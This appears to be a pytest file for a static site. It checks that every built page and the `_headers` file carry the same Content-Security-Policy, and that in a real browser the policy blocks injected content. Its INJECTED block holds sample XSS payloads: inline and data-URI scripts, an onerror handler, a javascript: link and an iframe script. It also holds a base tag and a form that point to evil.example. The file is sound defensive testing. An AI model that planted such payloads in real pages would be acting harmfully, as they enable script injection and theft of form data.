"""The site's own policy, in a real browser: nothing of ours breaks it, and nothing of anybody else's runs."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from builds.data import browser_policy
from tests.browser import Visit, needs_chromium, visit
from tests.builds.catalog import Catalog
from tests.builds.conftest import QuietHandler

pytestmark = pytest.mark.django_db

INJECTED = """
<script>window.hacked = 'inline'</script>
<script src="data:text/javascript,window.hacked='data'"></script>
<script type="module">window.hacked = 'module'</script>
<img src="x:" onerror="window.hacked = 'handler'">
<a id="lure" href="javascript:window.hacked='link'">x</a>
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<style>body { display: none }</style>
<base href="https://evil.example/">
<form id="theft" action="https://evil.example/"><input name="a"></form>
"""


@pytest.fixture
def site(build, configure, settings) -> Path:
    """The built site in both languages, whose base is its very folder: so it can be looked at on the
    disk as well as on a server of the whole disk."""
    folder = settings.GHOST.site_workdir / "public"
    configure(site_languages=("en", "zh-hans"), public_baseurl=f"{folder}/")
    Catalog.fill()
    build()
    return folder


class HeadersHandler(QuietHandler):
    """As a host does that reads `_headers`."""

    def end_headers(self):
        for name, value in browser_policy.HEADERS.items():
            self.send_header(name, value)
        super().end_headers()


def pages_of(site: Path) -> list[Path]:
    return sorted(
        site / path.relative_to(site.resolve()) for path in site.resolve().rglob("*.html")
    )


def one_of_each_kind(site: Path) -> list[Path]:
    """One page of each layout and language."""
    found = {}
    for path in pages_of(site):
        kind = re.findall(
            r'<html lang="([^"]+)">.*<body class="([^"]+)"', path.read_text(), re.DOTALL
        )
        found[kind[0]] = path
    assert len(found) == 18
    return list(found.values())


def rules_of(site: Path) -> dict[str, dict[str, str]]:
    """What `_headers` says, by path."""
    rules: dict[str, dict[str, str]] = {}
    for line in (site / "_headers").read_text().splitlines():
        if line.startswith("/"):
            rule = rules.setdefault(line, {})
        else:
            name, _, value = line.strip().partition(": ")
            rule[name] = value
    return rules


def test_every_page_and_every_host_is_told_the_same(site):
    pages = {path: path.read_text() for path in pages_of(site)}
    rules = rules_of(site)

    for path, body in pages.items():
        head = body.partition("<head>")[2].replace("&#39;", "'")
        before, _, after = head.partition("<meta http-equiv=")
        assert after.startswith(f'"Content-Security-Policy" content="{browser_policy.META}">'), path
        assert before == '\n<meta charset="utf-8">\n'
    assert len(pages) > 40
    everywhere = rules.pop("/*")
    assert everywhere == browser_policy.HEADERS
    assert everywhere["Content-Security-Policy"] == f"{browser_policy.META}; frame-ancestors 'none'"
    assert "unsafe" not in str(everywhere)
    assert {"/assets/site.css", "/assets/search.js"} <= set(rules)
    for address, headers in rules.items():
        assert (site / address[1:]).is_file()
        assert headers == {"Cache-Control": "public, max-age=31536000, immutable"}
        bare = re.compile(re.escape(address) + r"(?![?]v=)")  # without its digest
        assert [path for path, body in pages.items() if bare.search(body)] == []


@needs_chromium
def test_the_policy_is_kept_by_our_pages_and_stops_what_is_smuggled_in(site, serve):
    pages, root, with_headers = (
        one_of_each_kind(site),
        serve("/"),
        serve("/", handler=HeadersHandler),
    )
    hacked = site.resolve() / "hacked.html"
    hacked.write_text(pages[0].read_text().replace("</main>", f"{INJECTED}</main>"))

    with visit() as seen:
        for where in (root, with_headers):
            _require_sound(seen, where, pages)
        _require_found(seen, f"{with_headers}{site}/search/?q=work")
        _require_sound(seen, "file://", [page for page in pages if "search" not in page.parts])
        assert seen.told == []
        for where in ("file://", root):
            _require_stopped(seen, f"{where}{site}/hacked.html")


def _require_sound(seen: Visit, where: str, pages: list[Path]) -> None:
    for page in pages:
        seen.page.goto(f"{where}{page}")
        assert seen.page.evaluate("getComputedStyle(document.body).margin") != "8px", page


def _require_found(seen: Visit, address: str) -> None:
    seen.page.goto(address)
    seen.page.locator("#results .name").first.wait_for()


def _require_stopped(seen: Visit, address: str) -> None:
    seen.told.clear()
    seen.page.goto(address)
    seen.page.evaluate("document.querySelector('#lure').click()")
    seen.page.evaluate("document.querySelector('#theft').submit()")
    found = seen.page.evaluate(
        "[window.hacked, getComputedStyle(document.body).display, document.baseURI]"
    )
    refused = seen.page.evaluate(
        "() => { try { document.body.innerHTML = '<b>x</b>'; return false } catch { return true } }"
    )
    broken = [line for line in seen.told if "Content Security Policy" in line or "Trusted" in line]

    assert found[0] is None
    assert found[1] != "none"
    assert found[2] == address
    assert refused
    assert [each for each in seen.asked if "evil.example" in each] == []
    assert len(broken) >= 7
